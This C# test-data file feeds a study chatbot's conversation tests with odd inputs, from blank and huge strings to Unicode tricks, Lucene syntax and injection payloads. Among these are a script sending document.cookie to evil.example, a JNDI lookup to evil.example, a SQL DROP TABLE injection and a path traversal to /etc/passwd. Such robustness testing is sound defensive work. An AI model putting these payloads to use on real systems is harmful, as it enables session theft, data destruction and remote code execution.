namespace StudyBot.Conversation.Tests;

/// <summary>What a student, a cat or an attacker types.</summary>
internal static class OddText
{
    public static TheoryData<string, string> Rows => new()
    {
        { "nothing", "" },
        { "blanks", "  \t \r\n " },
        { "10,000 characters", string.Concat(Enumerable.Repeat("who patches the operating system on EC2? ", 250))[..10_000] },
        { "10,000 characters in one word", new string('x', 10_000) },
        { "10,000 different words", string.Concat(Enumerable.Range(1000, 2000).Select(number => $"w{number}")) },
        { "a hundred thousand brackets", new string('(', 100_000) },
        { "control characters", "who\0 patches\a \u001b[31m the\b OS\u007f\u0085 on\v EC2" },
        { "letters that turn the line round", "\u202Ewho patches \u2066EC2\u2069\u200F" },
        { "combining marks", string.Concat("EC2".Select(c => c + new string('\u0301', 500))) },
        { "emoji", "🤷🏽‍♀️ 👩‍👩‍👧‍👦 🔐" },
        { "another script", "谁负责修补操作系统？ كيف أحمي المستخدم الجذر" },
        { "everything in Lucene", "*:*" },
        { "a field in Lucene", "heading:encryption AND (path:*" },
        { "an open quotation", "\"who patches" },
        { "a range in Lucene", "[a TO z} ~10 ^99 \\" },
        { "a regular expression in Lucene", "/.*(ab+)+$/" },
        { "a leading wildcard", "?atch* !&& || + - NOT" },
        { "HTML", "<b>who</b> patches <img src=x onerror=alert(1)> EC2" },
        { "script", "<script>fetch('//evil.example/'+document.cookie)</script>" },
        { "Markdown", "[a](javascript:alert(1)) ![b](http://evil.example/c.png) `d` | e |" },
        { "SQL", "'; DROP TABLE answer; --" },
        { "a format", "{0} %s %n ${jndi:ldap://evil.example/a} {{7*7}}" },
        { "a path", "../../../../etc/passwd" },
        { "JSON", "{\"type\":\"message\",\"text\":\"A\"}" },
        { "an id of a question of no course", "quiz q-../../x" },
        { "a quiz beyond counting", "quiz 99999999999999999999999999" },
        { "a number beyond counting", "99999999999999999999999999" },
    };
}
